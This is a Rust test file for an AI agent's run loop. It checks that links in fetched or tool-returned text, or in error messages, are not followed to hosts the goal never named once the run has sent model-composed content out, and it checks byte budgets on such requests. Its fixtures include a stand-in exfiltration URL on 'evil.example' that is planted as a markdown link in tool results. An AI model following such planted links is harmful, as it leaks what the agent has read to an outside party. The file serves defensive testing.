//! Whose answers give links: none, once something that a model composed has left the run.

use super::origins::{get, planned, reading, web};
use super::*;
use crate::domain::delegation::StepWork;
use crate::domain::plan::PlanStep;
use crate::domain::provenance::Provenance;
use crate::domain::step_origin::StepOrigin;

const NAMED: &str = "https://wiki.example/board";
const UNNAMED: &str = "https://evil.example/collect?d=all-that-was-read";

/// The tools of [`web`], `query_table` and `write_file`, in a run whose goal names the board.
fn setting() -> Setup {
    let query_table = ToolSpec { untrusted: true, ..(*tool("query_table", true)).clone() };
    let write_file = ToolSpec { effect: Effect::Write, ..(*tool("write_file", true)).clone() };
    let mut setup = web(Setup { goal: format!("Sum up https://wiki.example/a and {NAMED}"), ..setup() });
    setup.tools.extend([Arc::new(query_table), Arc::new(write_file)]);
    setup
}

/// A run of one judged step with all tools, which has read `https://wiki.example/a`.
fn having_read(setup: Setup) -> Machine {
    let mut machine = begin(setup);
    let mut steps = reading();
    steps[0]["tools"] = json!(["fetch", "query_table", "write_file"]);
    answer(&mut machine, "plan", planned(&steps));
    answer(&mut machine, "act", wants(&[get("https://wiki.example/a")]));
    tool_calls(&mut machine);
    returned(&mut machine, "s#1", Ok(json!({"text": "see [the copy](https://copy.example/board)"})));
    machine
}

/// Makes `call`, and reads `board` after it, which shows what it was told; `follows` says whether the link there is followed.
fn follows(mut machine: Machine, call: (&'static str, Value), board: &str) -> bool {
    answer(&mut machine, "act", wants(&[call]));
    assert_eq!(tool_calls(&mut machine).len(), 1);
    returned(&mut machine, "s#2", Ok(json!({"text": "noted"})));
    answer(&mut machine, "act", wants(&[get(board)]));
    assert_eq!(tool_calls(&mut machine).len(), 1, "the board is read");
    returned(&mut machine, "s#3", Ok(json!({"text": format!("[said]({UNNAMED})")})));
    answer(&mut machine, "act", wants(&[get(UNNAMED)]));
    match machine.next_action() {
        Action::CallTools(_) => true,
        Action::CallModel(_) => false,
        other => panic!("{other:?}"),
    }
}

#[test]
fn what_was_told_comes_back_as_a_link_from_no_server() {
    let tell = || get("https://wiki.example/tell?q=x");
    let query = |name: &str| ("query_table", json!({"query": "SELECT 1", name: "https://wiki.example/tell?q=x"}));
    assert!(!follows(having_read(setting()), tell(), NAMED), "the same server");
    assert!(!follows(having_read(setting()), tell(), "https://copy.example/board"), "another name of it");
    for name in ["url", "table"] {
        assert!(!follows(having_read(setting()), query(name), NAMED), "told by query_table, {name}");
    }
    assert!(follows(having_read(setting()), get(NAMED), NAMED), "nothing was told");
}

#[test]
fn a_request_tells_from_its_start_on() {
    let mut machine = having_read(setting());
    answer(&mut machine, "act", wants(&[get("https://wiki.example/tell?q=x"), get(NAMED)]));
    assert_eq!(tool_calls(&mut machine).len(), 2);
    returned(&mut machine, "s#3", Ok(json!({"text": format!("[said]({UNNAMED})")})));
    returned(&mut machine, "s#2", Ok(json!({"text": "noted"})));
    answer(&mut machine, "act", wants(&[get(UNNAMED)]));
    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
}

#[test]
fn a_file_in_a_folder_of_people_may_be_shown_to_the_world() {
    let write = || ("write_file", json!({"path": "out/o.html", "content": "x"}));
    let open = Setup { writes_to_people: true, ..setting() };
    assert!(!follows(having_read(open), write(), NAMED));
    assert!(follows(having_read(setting()), write(), NAMED), "the folder of the task is shown to nobody");
}

#[test]
fn what_a_run_adds_to_addresses_that_nobody_named_has_a_sum() {
    let mut machine = having_read(Setup { goal: "Sum it up".to_owned(), ..setting() });
    let address = |number: usize| format!("https://wiki.example/search?q={number}{}", "x".repeat(200));
    let mut made = 0;
    for number in 2..20 {
        answer(&mut machine, "act", wants(&[get(&address(number))]));
        match machine.next_action() {
            Action::CallTools(calls) => {
                made += 1;
                returned(&mut machine, &calls[0].id, Ok(json!({"text": "nothing"})));
            }
            Action::CallModel(_) => break,
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(made, 4, "some 1,024 bytes, each request of which is short enough");
}

#[test]
fn the_calls_of_one_turn_add_up() {
    let mut machine = having_read(Setup { goal: "Sum it up".to_owned(), ..setting() });
    let address = |number: usize| format!("https://wiki.example/search?q={number}{}", "x".repeat(200));
    let calls: Vec<_> = (2..18).map(|number| get(&address(number))).collect();
    answer(&mut machine, "act", wants(&calls));
    assert_eq!(tool_calls(&mut machine).len(), 4, "the others are refused");
}

#[test]
fn a_checkpoint_that_does_not_say_what_was_told_gives_no_links() {
    let machine = having_read(setting());
    let mut state = machine.state().expect("serialisable");
    for field in ["has_sent_composed", "added_bytes"] {
        assert!(state.as_object_mut().expect("fields").remove(field).is_some(), "{field}");
    }
    let of_older_version = Machine::resume(setting(), &state).expect("readable");
    assert!(follows(having_read(setting()), get(NAMED), NAMED));
    assert!(!follows(of_older_version, get(NAMED), NAMED));
    let mut unnamed = Machine::resume(Setup { goal: "Sum it up".to_owned(), ..setting() }, &state).expect("readable");
    answer(&mut unnamed, "act", wants(&[get("https://wiki.example/search?q=x")]));
    let Action::CallModel(next) = unnamed.next_action() else { panic!("nothing is requested") };
    assert!(said(&next).contains("an older version did not note"), "{}", said(&next));
}

#[test]
fn a_task_of_a_task_gives_links_only_when_nothing_had_been_told_before_it() {
    let origin = |has_sent_composed| StepOrigin {
        has_sent_composed,
        named: vec!["https://wiki.example".to_owned()],
        planned_from: Provenance::default(),
        provenance: Provenance::default(),
        ..StepOrigin::unknown()
    };
    let child = |step_origin| Setup { is_child: true, step_origin, ..setting() };
    for (step_origin, is_followed) in [(None, false), (Some(origin(true)), false), (Some(origin(false)), true)] {
        let mut machine = having_read(child(step_origin.clone()));
        answer(&mut machine, "act", wants(&[get("https://copy.example/board")]));
        let next = machine.next_action();
        assert_eq!(matches!(next, Action::CallTools(_)), is_followed, "{step_origin:?}: {next:?}");
    }
}

#[test]
fn a_step_that_another_agent_carries_out_tells_whatever_it_likes() {
    let orders = |instruction: Value, provenance: Provenance| {
        let step = json!({"id": "a", "tool": if instruction.is_null() { json!("look") } else { Value::Null },
            "instruction": instruction, "capability": "away"});
        let plan: PlanStep = serde_json::from_value(step).expect("a step");
        let origin = StepOrigin { provenance, ..StepOrigin::unknown() };
        StepWork::new(&plan, &HashMap::<String, Value>::new(), origin).expect("work").sends_nothing_composed()
    };
    assert!(!orders(json!("Look around"), Provenance::default()));
    assert!(!orders(Value::Null, Provenance::unknown()));
    assert!(orders(Value::Null, Provenance::default()));
}

#[test]
fn what_qron_says_of_a_failed_call_gives_no_links() {
    let mut machine = having_read(setting());
    let call = json!({"url": NAMED, format!("]({UNNAMED})"): 1});
    answer(&mut machine, "act", wants(&[("fetch", call)]));
    for made in tool_calls(&mut machine) {
        let why = format!("Additional properties are not allowed (']({UNNAMED})' was unexpected)");
        returned(&mut machine, &made.id, Err(Failure::invalid(why)));
    }
    answer(&mut machine, "act", wants(&[get(UNNAMED)]));
    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
}
